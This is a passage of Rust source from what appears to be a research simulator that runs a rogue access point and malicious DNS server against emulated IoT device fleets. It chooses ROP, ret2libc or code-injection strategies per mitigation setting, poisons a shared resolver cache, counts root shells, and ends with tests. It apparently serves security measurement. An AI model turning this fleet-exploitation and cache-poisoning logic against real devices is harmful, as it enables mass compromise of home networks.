    /// Wall-clock time of the attack fan-out (excludes the shared
    /// firmware/recon prep).
    pub elapsed: Duration,
    /// Worker count used.
    pub jobs: usize,
    /// Where the session time went, summed across workers.
    pub phases: PhaseTimings,
    /// Distinct VM attack sessions executed (≤ devices; chunk
    /// boundaries may replay a class, so this can vary with `--jobs`
    /// and is excluded from [`FleetReport::render`]).
    pub sessions: u64,
}

impl FleetReport {
    /// Number of devices with a root shell.
    pub fn compromised(&self) -> usize {
        self.cohorts
            .iter()
            .map(|c| c.accum.compromised)
            .sum::<u64>() as usize
    }

    /// Number of devices still serving.
    pub fn survivors(&self) -> usize {
        self.cohorts.iter().map(|c| c.accum.alive).sum::<u64>() as usize
    }

    /// Devices attacked per second of wall time.
    pub fn devices_per_sec(&self) -> f64 {
        self.devices as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    /// Deterministic rendering — integer-derived and ordered by cohort,
    /// so serial and parallel runs of the same [`FleetSpec`] produce
    /// identical bytes, including the per-cohort sections.
    pub fn render(&self) -> String {
        let mut out = format!(
            "fleet: {} devices, {} compromised, {} survivors\n",
            self.devices,
            self.compromised(),
            self.survivors()
        );
        out.push_str(&format!(
            "{:<12} {:<18} {:<6} {:<7} {:>9} {:>9} {:>8} {:>9} {:>7}\n",
            "cohort", "firmware", "arch", "prot", "devices", "shell", "rate", "alive", "lost"
        ));
        for c in &self.cohorts {
            let a = &c.accum;
            let rate = if a.devices == 0 {
                0.0
            } else {
                a.compromised as f64 * 100.0 / a.devices as f64
            };
            out.push_str(&format!(
                "{:<12} {:<18} {:<6} {:<7} {:>9} {:>9} {:>7.2}% {:>9} {:>7}\n",
                c.spec.name,
                format!(
                    "{} {}",
                    c.spec.kind.os_name(),
                    c.spec.kind.connman_version()
                ),
                c.spec.arch.to_string(),
                prot_label(&c.spec.protections),
                a.devices,
                a.compromised,
                rate,
                a.alive,
                a.lost
            ));
            let crash = a.histo[Verdict::Crash as usize];
            let exit = a.histo[Verdict::Exit as usize];
            let down = a.histo[Verdict::Down as usize];
            if crash + exit + down > 0 {
                out.push_str(&format!(
                    "  faults[{}]: crash={crash} exit={exit} down={down}\n",
                    c.spec.name
                ));
            }
        }
        out
    }

    /// The per-cohort table as a markdown [`crate::report::Table`]
    /// (used to regenerate EXPERIMENTS.md).
    pub fn to_table(&self, id: &str, title: &str) -> crate::report::Table {
        let mut t = crate::report::Table::new(
            id,
            title,
            &[
                "cohort",
                "firmware",
                "arch",
                "protections",
                "devices",
                "compromised",
                "rate",
                "alive",
                "lost",
            ],
        );
        for c in &self.cohorts {
            let a = &c.accum;
            let rate = if a.devices == 0 {
                0.0
            } else {
                a.compromised as f64 * 100.0 / a.devices as f64
            };
            t.row([
                c.spec.name.clone(),
                format!(
                    "{} {}",
                    c.spec.kind.os_name(),
                    c.spec.kind.connman_version()
                ),
                c.spec.arch.to_string(),
                prot_label(&c.spec.protections).to_string(),
                a.devices.to_string(),
                a.compromised.to_string(),
                format!("{rate:.2}%"),
                a.alive.to_string(),
                a.lost.to_string(),
            ]);
        }
        t
    }
}

/// Human label for the known protection configurations.
fn prot_label(p: &Protections) -> &'static str {
    match (p.wxorx, p.aslr.enabled, p.stack_canary, p.cfi, p.pie) {
        (false, false, false, false, false) => "none",
        (true, false, false, false, false) => "wxorx",
        (true, true, false, false, false) => "full",
        (true, true, true, false, false) => "canary",
        (true, true, false, true, false) => "cfi",
        (true, true, false, false, true) => "pie",
        _ => "custom",
    }
}

/// Progress callback: `(devices done so far, seconds elapsed)`. Called
/// from worker threads after each chunk.
pub type ProgressFn = Arc<dyn Fn(u64, f64) + Send + Sync>;

/// Knobs of a fleet run. The defaults are the fast path; the `false`
/// settings exist as honest ablation arms for `repro --bench-json`.
#[derive(Clone, Default)]
pub struct FleetConfig {
    /// Worker threads (0 = one per CPU).
    pub jobs: usize,
    /// Fork each session from a boot snapshot instead of booting from
    /// scratch (defaults on; `run_fleet_with(.., false)` is the
    /// boot-per-session ablation).
    pub no_snapshot: bool,
    /// Boot forges per worker instead of spawning them from the shared
    /// copy-on-write [`SharedForge`] (ablation arm).
    pub per_worker_forge: bool,
    /// Answer each session through the live netsim packet path instead
    /// of the per-cohort [`AnswerBank`] (ablation arm).
    pub per_device_answers: bool,
    /// Materialize a [`DeviceRecord`] per device — O(devices) memory
    /// (ablation arm; the streamed default keeps O(cohorts)).
    pub materialize: bool,
    /// Route each cohort's queries through a shared upstream
    /// [`ResolverCache`] that the attacker poisons **once** (the XDRI
    /// upstream-compromise topology): the malicious server crafts one
    /// response per worker × cohort, and every further session is a
    /// cache-hit replay with no per-device malicious delivery. The
    /// report renders byte-identically to the direct path.
    pub resolver: bool,
    /// Scheduling chunk size in devices (0 = auto).
    pub chunk: u64,
    /// Progress callback for `--stream`.
    pub progress: Option<ProgressFn>,
}

impl std::fmt::Debug for FleetConfig {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FleetConfig")
            .field("jobs", &self.jobs)
            .field("no_snapshot", &self.no_snapshot)
            .field("per_worker_forge", &self.per_worker_forge)
            .field("per_device_answers", &self.per_device_answers)
            .field("materialize", &self.materialize)
            .field("resolver", &self.resolver)
            .field("chunk", &self.chunk)
            .field("progress", &self.progress.is_some())
            .finish()
    }
}

impl FleetConfig {
    /// The fast path on `jobs` workers.
    pub fn new(jobs: usize) -> FleetConfig {
        FleetConfig {
            jobs,
            ..FleetConfig::default()
        }
    }
}

/// Runs the rogue-AP attack against every device in the spec on `jobs`
/// workers (0 = one per CPU), on the default fast path.
///
/// # Panics
///
/// Panics if reconnaissance or payload-template construction fails for
/// a profile present in the spec — the fleet scenario is only
/// meaningful with working exploits.
pub fn run_fleet(spec: &FleetSpec, jobs: usize) -> FleetReport {
    run_fleet_cfg(spec, &FleetConfig::new(jobs))
}

/// [`run_fleet`] with an explicit boot path: when `snapshot` is false,
/// every session boots its daemon from scratch instead of forking a
/// snapshot. The report renders byte-identically either way.
pub fn run_fleet_with(spec: &FleetSpec, jobs: usize, snapshot: bool) -> FleetReport {
    run_fleet_cfg(
        spec,
        &FleetConfig {
            jobs,
            no_snapshot: !snapshot,
            ..FleetConfig::default()
        },
    )
}

/// Profile key: firmware kind + arch + protection bits, used to index
/// worker forges and shared boots in O(1).
fn profile_key(kind: FirmwareKind, arch: Arch, p: &Protections) -> u64 {
    let kind_idx = FirmwareKind::ALL
        .iter()
        .position(|k| *k == kind)
        .expect("known kind") as u64;
    let arch_idx = Arch::ALL
        .iter()
        .position(|a| *a == arch)
        .expect("known arch") as u64;
    (kind_idx << 40) | (arch_idx << 32) | prot_key(p)
}

/// Reference key: arch + protection bits (recon is kind-independent —
/// the attacker probes their own vulnerable replica).
fn reference_key(arch: Arch, p: &Protections) -> u64 {
    let arch_idx = Arch::ALL
        .iter()
        .position(|a| *a == arch)
        .expect("known arch") as u64;
    (arch_idx << 32) | prot_key(p)
}

fn prot_key(p: &Protections) -> u64 {
    (p.wxorx as u64)
        | (p.aslr.enabled as u64) << 1
        | (p.stack_canary as u64) << 2
        | (p.cfi as u64) << 3
        | (p.pie as u64) << 4
        | (p.aslr.entropy_bits as u64) << 8
}

/// The attacker's exploitation strategy for a mitigation config —
/// mirrors `cml --strategy auto`.
fn pick_strategy(arch: Arch, p: &Protections) -> Box<dyn ExploitStrategy> {
    if p.aslr.enabled {
        Box::new(RopMemcpyChain::new(arch))
    } else if p.wxorx {
        match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        }
    } else {
        Box::new(CodeInjection::new(arch))
    }
}

/// Immutable run context shared by every worker.
struct FleetCtx<'a> {
    spec: &'a FleetSpec,
    cfg: &'a FleetConfig,
    run_gen: u64,
    started: Instant,
    done: AtomicU64,
    /// Cohort start indices (parallel to `spec.cohorts`).
    starts: Vec<u64>,
    /// One firmware build per distinct (kind, arch).
    firmwares: HashMap<u64, Firmware>,
    /// One shared boot per distinct (kind, arch, protections).
    shared: HashMap<u64, SharedForge>,
    /// One recon per distinct (arch, protections).
    references: HashMap<u64, TargetInfo>,
    ssid: Ssid,
}

impl FleetCtx<'_> {
    /// Cohort containing global device index `i`.
    fn locate(&self, i: u64) -> usize {
        match self.starts.binary_search(&i) {
            Ok(c) => c,
            Err(c) => c - 1,
        }
    }
}

/// Per-cohort worker state: the malicious resolver (armed with the
/// cohort's strategy), its captured answer bank, and the cohort's
/// telemetry hostname.
struct CohortState {
    dns: Ipv4Addr,
    host: Name,
    server: MaliciousDnsServer,
    bank: Option<AnswerBank>,
    /// The cohort's shared upstream resolver cache, poisoned once on
    /// first use ([`FleetConfig::resolver`] topology).
    upstream: Option<ResolverCache>,
    on_air: bool,
    /// Victim station for the live packet path. Per cohort with a
    /// distinct MAC: DHCP leases are sticky per MAC, so a shared
    /// station would keep the previous cohort's resolver address.
    station: Station,
}

/// Per-worker persistent attack state: built on the worker's first
/// chunk of a run, reused for every later one.
struct Worker {
    /// Which run this state belongs to; a stale generation (a previous
    /// run on the same thread) rebuilds.
    run_gen: u64,
    env: RadioEnvironment,
    ap: ApId,
    /// Boot-once/fork-many victims, **indexed by profile key** (O(1),
    /// replacing the linear scan the Vec-keyed version paid per fork).
    forges: HashMap<u64, BootForge>,
    /// Per-cohort attacker state, indexed by cohort position.
    cohorts: Vec<Option<CohortState>>,
    /// Cohort whose resolver the AP currently advertises.
    active_cohort: Option<usize>,
    /// Compiled payload templates, keyed by (strategy, arch).
    templates: TemplateSet,
    /// Warm DNS round-trip buffers.
    pool: BufPool,
    /// Bump arena for materialized per-device records, reset per chunk.
    records: Bump<DeviceRecord>,
}

thread_local! {
    static WORKER: RefCell<Option<Worker>> = const { RefCell::new(None) };
}

/// Distinguishes runs so a worker thread surviving across calls (the
/// `jobs == 1` path runs on the caller) never reuses another run's
/// leases or servers.
static RUN_GEN: AtomicU64 = AtomicU64::new(0);

/// Address the malicious resolver for cohort `c` listens on.
fn server_addr(c: usize) -> Ipv4Addr {
    Ipv4Addr::new(10, 0, (c / 200) as u8, (53 + c % 200) as u8)
}

/// Adapts [`MaliciousDnsServer`] to the netsim service trait, routing
/// the buffered entry point to the server's zero-copy encoder.
struct EvilService(MaliciousDnsServer);

impl UdpService for EvilService {
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>> {
        self.0.handle(payload)
    }

    fn handle_datagram_into(&mut self, payload: &[u8], out: &mut Vec<u8>) -> bool {
        let mut buf = WireBuf::from_vec(std::mem::take(out));
        let answered = self.0.handle_into(payload, &mut buf);
        *out = buf.into_vec();
        answered
    }
}

/// One chunk's partial result.
struct ChunkPartial {
    accums: Vec<CohortAccum>,
    phases: PhaseTimings,
    sessions: u64,
    records: Vec<DeviceRecord>,
}

/// Runs a fleet under an explicit [`FleetConfig`].
///
/// # Panics
///
/// Panics if reconnaissance or payload-template construction fails for
/// a profile present in the spec (see [`run_fleet`]).
pub fn run_fleet_cfg(spec: &FleetSpec, cfg: &FleetConfig) -> FleetReport {
    assert!(
        spec.cohorts.len() <= 1000,
        "cohort count bounded by resolver address space"
    );
    let mut starts = Vec::with_capacity(spec.cohorts.len());
    let mut acc = 0u64;
    for c in &spec.cohorts {
        starts.push(acc);
        acc += c.count;
    }
    let total = acc;

    // Attacker prep, once and serially: one recon per (arch,
    // protections), one firmware build per (kind, arch), one shared
    // copy-on-write boot per (kind, arch, protections).
    let mut firmwares: HashMap<u64, Firmware> = HashMap::new();
    let mut references: HashMap<u64, TargetInfo> = HashMap::new();
    let mut shared: HashMap<u64, SharedForge> = HashMap::new();
    for (c, cohort) in spec.cohorts.iter().enumerate() {
        if cohort.count == 0 {
            continue;
        }
        let fw_key = profile_key(cohort.kind, cohort.arch, &Protections::none());
        firmwares
            .entry(fw_key)
            .or_insert_with(|| Firmware::build(cohort.kind, cohort.arch));
        let ref_key = reference_key(cohort.arch, &cohort.protections);
        references.entry(ref_key).or_insert_with(|| {
            Lab::new(FirmwareKind::OpenElec, cohort.arch)
                .with_protections(cohort.protections)
                .recon()
                .expect("vulnerable replica recon succeeds")
        });
        if !cfg.per_worker_forge && !cfg.no_snapshot {
            let forge_key = profile_key(cohort.kind, cohort.arch, &cohort.protections);
            let seed = derive_seed(spec.base_seed, starts[c]);
            let fw = &firmwares[&fw_key];
            shared
                .entry(forge_key)
                .or_insert_with(|| SharedForge::new(fw, cohort.protections, seed));
        }
    }

    let run_gen = RUN_GEN.fetch_add(1, Ordering::Relaxed) + 1;
    let runner = Runner::new(cfg.jobs);
    let chunk = if cfg.chunk > 0 {
        cfg.chunk
    } else {
        (total.div_ceil(runner.jobs() as u64 * 8)).clamp(64, 16_384)
    };
    let ctx = FleetCtx {
        spec,
        cfg,
        run_gen,
        started: Instant::now(),
        done: AtomicU64::new(0),
        starts,
        firmwares,
        shared,
        references,
        ssid: Ssid::new("SmartHome"),
    };

    let partials = runner.run_chunks(total, chunk, |range| process_chunk(&ctx, range));

    let mut accums = vec![CohortAccum::default(); spec.cohorts.len()];
    let mut phases = PhaseTimings::default();
    let mut sessions = 0u64;
    let mut outcomes = cfg.materialize.then(|| Vec::with_capacity(total as usize));
    for p in &partials {
        for (a, b) in accums.iter_mut().zip(p.accums.iter()) {
            a.merge(b);
        }
        phases.forge_secs += p.phases.forge_secs;
        phases.deliver_secs += p.phases.deliver_secs;
        phases.vm_secs += p.phases.vm_secs;
        sessions += p.sessions;
        if let Some(out) = outcomes.as_mut() {
            out.extend_from_slice(&p.records);
        }
    }
    FleetReport {
        devices: total,
        cohorts: spec
            .cohorts
            .iter()
            .zip(accums)
            .map(|(spec, accum)| CohortReport {
                spec: spec.clone(),
                accum,
            })
            .collect(),
        outcomes,
        elapsed: ctx.started.elapsed(),
        jobs: runner.jobs(),
        phases,
        sessions,
    }
}

/// Processes one contiguous device-index chunk on the calling worker.
fn process_chunk(ctx: &FleetCtx<'_>, range: Range<u64>) -> ChunkPartial {
    WORKER.with(|slot| {
        let mut slot = slot.borrow_mut();
        let worker = match slot.as_mut() {
            Some(w) if w.run_gen == ctx.run_gen => w,
            _ => {
                let mut env = RadioEnvironment::new();
                let ap = env.add_ap(AccessPoint::new(ApConfig {
                    ssid: ctx.ssid.clone(),
                    bssid: HwAddr::local(1),
                    signal_dbm: -40,
                    dhcp: DhcpConfig::new([10, 0, 0], server_addr(0)),
                }));
                *slot = Some(Worker {
                    run_gen: ctx.run_gen,
                    env,
                    ap,
                    forges: HashMap::new(),
                    cohorts: (0..ctx.spec.cohorts.len()).map(|_| None).collect(),
                    active_cohort: None,
                    templates: TemplateSet::new(),
                    pool: BufPool::new(),
                    records: Bump::new(),
                });
                slot.as_mut().expect("just set")
            }
        };
        let partial = run_range(worker, ctx, range.clone());
        if let Some(progress) = &ctx.cfg.progress {
            let done = ctx
                .done
                .fetch_add(range.end - range.start, Ordering::Relaxed)
                + (range.end - range.start);
            progress(done, ctx.started.elapsed().as_secs_f64());
        }
        partial
    })
}

/// The chunk loop: walk the cohorts and address classes overlapping
/// `range`, run one session per class, fan its verdict out.
fn run_range(worker: &mut Worker, ctx: &FleetCtx<'_>, range: Range<u64>) -> ChunkPartial {
    let mut partial = ChunkPartial {
        accums: vec![CohortAccum::default(); ctx.spec.cohorts.len()],
        phases: PhaseTimings::default(),
        sessions: 0,
        records: Vec::new(),
    };
    worker.records.reset();
    let mut i = range.start;
    while i < range.end {
        let c = ctx.locate(i);
        let cohort = &ctx.spec.cohorts[c];
        let c_range = ctx.spec.cohort_range(c);
        let upto = range.end.min(c_range.end);
        let run_len = cohort.run_len();
        while i < upto {
            let local = i - c_range.start;
            let class_first = c_range.start + (local / run_len) * run_len;
            let sub = i..upto.min(class_first + run_len).min(c_range.end);
            let seed = derive_seed(ctx.spec.base_seed, class_first);
            let verdict = class_session(worker, ctx, c, seed, &mut partial);
            partial.sessions += 1;
            fan_out(
                verdict,
                sub.clone(),
                ctx.spec.base_seed,
                cohort.loss_ppm,
                &mut partial.accums[c],
            );
            if ctx.cfg.materialize {
                for index in sub.clone() {
                    let v = if response_lost(ctx.spec.base_seed, index, cohort.loss_ppm) {
                        Verdict::Lost
                    } else {
                        verdict
                    };
                    worker.records.push(DeviceRecord {
                        index,
                        cohort: c as u32,
                        verdict: v,
                    });
                }
            }
            i = sub.end;
        }
    }
    if ctx.cfg.materialize {
        partial.records = worker.records.drain_to_vec();
    }
    partial
}

/// Ensures the worker's per-cohort attacker state exists and returns
/// it: the strategy-armed resolver (template relocated once per
/// worker × cohort profile), the cohort hostname, and — lazily, on
/// first session — the captured answer bank.
fn cohort_state<'w>(worker: &'w mut Worker, ctx: &FleetCtx<'_>, c: usize) -> &'w mut CohortState {
    if worker.cohorts[c].is_none() {
        let cohort = &ctx.spec.cohorts[c];
        let reference = &ctx.references[&reference_key(cohort.arch, &cohort.protections)];
        let strategy = pick_strategy(cohort.arch, &cohort.protections);
        let template = worker
            .templates
            .get_or_compile(strategy.as_ref(), reference)
            .expect("fleet payload templates against the replica");
        let labels = template
            .instantiate(&Slides::identity())
            .expect("identity relocation labelizes");
        let server = MaliciousDnsServer::with_labels(labels, template.name());
        let host = Name::parse(&format!("telemetry.{}.vendor.example", cohort.name))
            .expect("cohort names are label-safe");
        worker.cohorts[c] = Some(CohortState {
            dns: server_addr(c),
            host,
            server,
            bank: None,
            upstream: None,
            on_air: false,
            station: Station::new(HwAddr::local(100 + c as u16), ctx.ssid.clone()),
        });
    }
    worker.cohorts[c].as_mut().expect("just ensured")
}

/// One attack session against a freshly forked (or freshly booted)
/// victim of cohort `c` at boot seed `seed`. Returns the verdict every
/// device of the class inherits.
fn class_session(
    worker: &mut Worker,
    ctx: &FleetCtx<'_>,
    c: usize,
    seed: u64,
    partial: &mut ChunkPartial,
) -> Verdict {
    let cohort = &ctx.spec.cohorts[c];
    let cfg = ctx.cfg;

    // Make sure the cohort's resolver exists (and is on the air when
    // the live packet path is in use).
    cohort_state(worker, ctx, c);

    let t_forge = Instant::now();
    let forge_key = profile_key(cohort.kind, cohort.arch, &cohort.protections);
    let fw_key = profile_key(cohort.kind, cohort.arch, &Protections::none());
    let mut fresh_daemon;
    let daemon = if cfg.no_snapshot {
        fresh_daemon = ctx.firmwares[&fw_key].boot(cohort.protections, seed);
        &mut fresh_daemon
    } else {
        worker
            .forges
            .entry(forge_key)
            .or_insert_with(|| {
                if cfg.per_worker_forge {
                    ctx.firmwares[&fw_key].forge(cohort.protections, seed)
                } else {
                    ctx.shared[&forge_key].spawn()
                }
            })
            .fork(seed)
    };
    partial.phases.forge_secs += t_forge.elapsed().as_secs_f64();

    if !daemon.is_running() {
        return Verdict::Down;
    }
    let state = worker.cohorts[c].as_mut().expect("ensured above");

    let t_deliver = Instant::now();
    let query = match daemon.resolve(&state.host, RecordType::A) {
        Resolution::Query(q) => q,
        Resolution::Cached(_) => {
            partial.phases.deliver_secs += t_deliver.elapsed().as_secs_f64();
            return Verdict::Served;
        }
    };

    let outcome;
    if cfg.resolver {
        // Upstream-resolver topology: the cohort's devices query
        // through a shared cache the attacker poisoned once. The
        // malicious server crafts exactly one response per
        // worker × cohort; every session after that is a cache-hit
        // replay (canonical-question match, id patched), so fleet-wide
        // compromise needs no per-device malicious delivery.
        if state.upstream.is_none() {
            let mut cache = ResolverCache::new(1024);
            if let Some(resp) = state.server.handle(&query) {
                // The injected TTL outlives any campaign; E10 sweeps
                // realistic TTLs and cache pressure.
                cache.poison(0, &query, &resp, u64::MAX / 2);
            }
            state.upstream = Some(cache);
        }
        let cache = state.upstream.as_mut().expect("just ensured");
        let mut buf = worker.pool.checkout();
        let hit = cache.lookup_into(0, &query, buf.as_mut_vec());
        partial.phases.deliver_secs += t_deliver.elapsed().as_secs_f64();
        let t_vm = Instant::now();
        if !hit {
            // The poisoning itself failed (non-canonical query): the
            // class was never attacked this round.
            worker.pool.checkin(buf);
            partial.phases.vm_secs += t_vm.elapsed().as_secs_f64();
            return Verdict::Lost;
        }
        outcome = daemon.deliver_response(buf.as_bytes());
        partial.phases.vm_secs += t_vm.elapsed().as_secs_f64();
        worker.pool.checkin(buf);
    } else if !cfg.per_device_answers {
        // Batched fan-out: the cohort's relocated response was encoded
        // once; this class is answered by a byte-compare and a borrow.
        if state.bank.is_none() {
            state.bank = AnswerBank::capture(&mut state.server, &query);
        }
        let banked = state.bank.as_mut().and_then(|b| b.answer(&query)).is_some();
        partial.phases.deliver_secs += t_deliver.elapsed().as_secs_f64();
        let t_vm = Instant::now();
        outcome = if banked {
            let bytes = state
                .bank
                .as_ref()
                .map(|b| b.response())
                .expect("banked implies bank");
            daemon.deliver_response(bytes)
        } else {
            // Non-canonical query (never on the forged boot path, but
            // semantics must not depend on the bank): ask the live
            // server.
            match state.server.handle(&query) {
                Some(resp) => daemon.deliver_response(&resp),
                None => {
                    partial.phases.vm_secs += t_vm.elapsed().as_secs_f64();
                    return Verdict::Lost;
                }
            }
        };
        partial.phases.vm_secs += t_vm.elapsed().as_secs_f64();
    } else {
        // Ablation arm: full radio round trip per session.
        if !state.on_air {
            let service = EvilService(state.server.clone());
            worker.env.register_service(state.dns, share(service));
            state.on_air = true;
        }
        if worker.active_cohort != Some(c) {
            worker
                .env
                .ap_mut(worker.ap)
                .expect("worker AP on the air")
                .set_dns(state.dns);
            worker.active_cohort = Some(c);
        }
        worker.env.clear_events();
        if state.station.association().is_none() {
            state.station.rescan(&mut worker.env);
        }
        let mut buf = worker.pool.checkout();
        let answered = state
            .station
            .query_dns_into(&mut worker.env, &query, buf.as_mut_vec());
        partial.phases.deliver_secs += t_deliver.elapsed().as_secs_f64();
        let t_vm = Instant::now();
        if !answered {
            worker.pool.checkin(buf);
            return Verdict::Lost;
        }
        outcome = daemon.deliver_response(buf.as_bytes());
        partial.phases.vm_secs += t_vm.elapsed().as_secs_f64();
        worker.pool.checkin(buf);
    }

    Verdict::classify(&outcome)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerable_cohorts_fall_and_patched_survive() {
        let spec = FleetSpec::heterogeneous(20, 0xF1EE7);
        let report = run_fleet(&spec, 2);
        assert_eq!(report.devices, 20);
        for c in &report.cohorts {
            let a = &c.accum;
            if c.spec.kind.is_vulnerable() {
                assert_eq!(
                    a.compromised + a.lost,
                    a.devices,
                    "{}: every delivered response pops a shell",
                    c.spec.name
                );
                assert_eq!(
                    a.alive, a.lost,
                    "{}: only lost devices survive",
                    c.spec.name
                );
            } else {
                assert_eq!(a.compromised, 0, "{} is patched", c.spec.name);
                assert_eq!(a.alive, a.devices, "{} survives", c.spec.name);
                assert_eq!(
                    a.histo[Verdict::Refused as usize],
                    a.devices - a.lost,
                    "{}: bounds check refuses the payload",
                    c.spec.name
                );
            }
        }
    }

    #[test]
    fn render_is_byte_identical_across_worker_counts() {
        let spec = FleetSpec::heterogeneous(30, 42);
        let serial = run_fleet(&spec, 1);
        for jobs in [2, 4] {
            let parallel = run_fleet(&spec, jobs);
            assert_eq!(serial.render(), parallel.render(), "jobs={jobs}");
        }
        // And across chunk geometries, which is the sharper contract.
        for chunk in [1, 3, 7, 64] {
            let cfg = FleetConfig {
                jobs: 3,
                chunk,
                ..FleetConfig::default()
            };
            assert_eq!(
                serial.render(),
                run_fleet_cfg(&spec, &cfg).render(),
                "chunk={chunk}"
            );
        }
    }

    #[test]
    fn snapshot_fleet_matches_fresh_boot_fleet() {
        let spec = FleetSpec::heterogeneous(12, 0xF1EE7);
        let fresh = run_fleet_with(&spec, 2, false).render();
        let forked = run_fleet_with(&spec, 2, true).render();
        assert_eq!(fresh, forked);
    }

    #[test]
    fn cow_forges_match_per_worker_forges_on_the_full_matrix() {
        // The 6-cell matrix: {none, wxorx, full} × {x86, ARMv7}, one
        // cohort each, plus loss on one cohort for good measure.
        let mut cohorts = Vec::new();
        for (pi, prot) in [
            Protections::none(),
            Protections::wxorx(),
            Protections::full(),
        ]
        .iter()
        .enumerate()
        {
            for arch in Arch::ALL {
                cohorts.push(CohortSpec {
                    protections: *prot,
                    loss_ppm: if pi == 1 { 50_000 } else { 0 },
                    ..CohortSpec::new(
                        &format!("cell-{pi}-{arch}"),
                        FirmwareKind::OpenElec,
                        arch,
                        5,
                    )
                });
            }
        }
        let spec = FleetSpec {
            base_seed: 0xC0C0A,
            cohorts,
        };
        let shared = run_fleet_cfg(&spec, &FleetConfig::new(2));
        let per_worker = run_fleet_cfg(
            &spec,
            &FleetConfig {
                jobs: 2,
                per_worker_forge: true,
                ..FleetConfig::default()
            },
        );
        assert_eq!(shared.render(), per_worker.render());
        // Every vulnerable cell actually fell (modulo injected loss).
        for c in &shared.cohorts {
            assert_eq!(
                c.accum.compromised + c.accum.lost,
                c.accum.devices,
                "{}",
                c.spec.name
            );
        }
    }

    #[test]
    fn batched_answers_match_per_device_packet_path() {
        let spec = FleetSpec::heterogeneous(18, 0xBEEF);
        let batched = run_fleet_cfg(&spec, &FleetConfig::new(2));
        let live = run_fleet_cfg(
            &spec,
            &FleetConfig {
                jobs: 2,
                per_device_answers: true,
                ..FleetConfig::default()
            },
        );
        assert_eq!(batched.render(), live.render());
    }

    #[test]
    fn resolver_topology_matches_direct_path_with_one_poisoning() {
        let spec = FleetSpec::heterogeneous(18, 0xBEEF);
        let direct = run_fleet_cfg(&spec, &FleetConfig::new(2));
        let through_resolver = |jobs| {
            run_fleet_cfg(
                &spec,
                &FleetConfig {
                    jobs,
                    resolver: true,
                    ..FleetConfig::default()
                },
            )
        };
        let upstream = through_resolver(1);
        // One poisoned upstream cache per cohort compromises exactly
        // the devices the direct malicious-delivery path does.
        assert_eq!(direct.render(), upstream.render());
        // And the topology is as deterministic as the rest.
        for jobs in [2, 4] {
            assert_eq!(
                upstream.render(),
                through_resolver(jobs).render(),
                "jobs={jobs}"
            );
        }
    }

    #[test]
    fn streamed_report_matches_materialized_report() {
        let spec = FleetSpec::heterogeneous(25, 7);
        let streamed = run_fleet_cfg(&spec, &FleetConfig::new(3));
        let materialized = run_fleet_cfg(
            &spec,
            &FleetConfig {
                jobs: 3,
                materialize: true,
                ..FleetConfig::default()
            },
        );
        assert_eq!(streamed.render(), materialized.render());
        assert!(streamed.outcomes.is_none());
        let records = materialized.outcomes.clone().expect("materialized records");
        assert_eq!(records.len(), 25);
        // Records arrive in global device order with per-device verdicts
        // consistent with the cohort accumulators.
        for (k, r) in records.iter().enumerate() {
            assert_eq!(r.index, k as u64);
        }
        let shells = records.iter().filter(|r| r.verdict.compromised()).count();
        assert_eq!(shells, materialized.compromised());
    }

    #[test]
    fn entropy_classes_share_boot_layouts() {
        // 16 devices, 2 bits of boot entropy → 4 classes of 4: exactly
        // 4 distinct sessions at jobs=1, same compromise totals as the
        // full-entropy run of the same cohort.
        let narrow = FleetSpec {
            base_seed: 0xE41,
            cohorts: vec![CohortSpec {
                entropy_bits: 2,
                ..CohortSpec::new("tv", FirmwareKind::OpenElec, Arch::X86, 16)
            }],
        };
        let full = FleetSpec {
            base_seed: 0xE41,
            cohorts: vec![CohortSpec {
                entropy_bits: ENTROPY_FULL,
                ..CohortSpec::new("tv", FirmwareKind::OpenElec, Arch::X86, 16)
            }],
        };
        let narrow_report = run_fleet(&narrow, 1);
        let full_report = run_fleet(&full, 1);
        assert_eq!(narrow_report.sessions, 4);
        assert_eq!(full_report.sessions, 16);
        assert_eq!(narrow_report.compromised(), 16);
        assert_eq!(full_report.compromised(), 16);
    }

    #[test]
    fn loss_profile_spares_a_deterministic_subset() {
        let spec = FleetSpec {
            base_seed: 0x10,
            cohorts: vec![CohortSpec {
                loss_ppm: 300_000, // 30%
                ..CohortSpec::new("lossy", FirmwareKind::OpenElec, Arch::Armv7, 40)
            }],
        };
        let a = run_fleet(&spec, 1);
        let b = run_fleet(&spec, 4);
        let acc = &a.cohorts[0].accum;
        assert!(acc.lost > 0, "30% loss over 40 devices loses some");
        assert!(acc.lost < 40, "but not all");
        assert_eq!(acc.compromised + acc.lost, 40);
        assert_eq!(a.render(), b.render());
    }

    #[test]
    fn cohort_spec_parsing_round_trips() {
        let parsed = CohortSpec::parse_list(
            "tv=openelec/armv7/full/400,stat=yocto/x86/wxorx/300/loss=2%,\
             cam=patched/arm/canary/100/entropy=8",
        )
        .expect("parses");
        assert_eq!(parsed.len(), 3);
        assert_eq!(parsed[0].count, 400);
        assert_eq!(parsed[1].loss_ppm, 20_000);
        assert_eq!(parsed[1].protections, Protections::wxorx());
        assert_eq!(parsed[2].entropy_bits, 8);
        assert!(parsed[2].protections.stack_canary);
        assert!(CohortSpec::parse_list("bogus").is_err());
        assert!(CohortSpec::parse_list("a=nope/x86/full/1").is_err());
    }

    #[test]
    fn cohort_spec_accepts_riscv_and_rejects_unknown_arches() {
        let parsed = CohortSpec::parse_list("gw=openelec/riscv/wxorx/50,hub=patched/rv32/full/10")
            .expect("riscv spellings parse");
        assert_eq!(parsed[0].arch, Arch::Riscv);
        assert_eq!(parsed[1].arch, Arch::Riscv);

        let err = CohortSpec::parse_list("gw=openelec/mips/full/50").unwrap_err();
        assert!(
            err.contains("unknown arch") && err.contains("mips"),
            "error must name the offending field: {err}"
        );
    }

    #[test]
    fn fan_out_honours_loss_and_counts() {
        let mut acc = CohortAccum::default();
        fan_out(Verdict::Shell, 0..1000, 0xAB, 0, &mut acc);
        assert_eq!(acc.devices, 1000);
        assert_eq!(acc.compromised, 1000);
        let mut lossy = CohortAccum::default();
        fan_out(Verdict::Shell, 0..1000, 0xAB, 100_000, &mut lossy);
        assert_eq!(lossy.devices, 1000);
        assert!(lossy.lost > 50 && lossy.lost < 200, "≈10%: {}", lossy.lost);
        assert_eq!(lossy.compromised + lossy.lost, 1000);
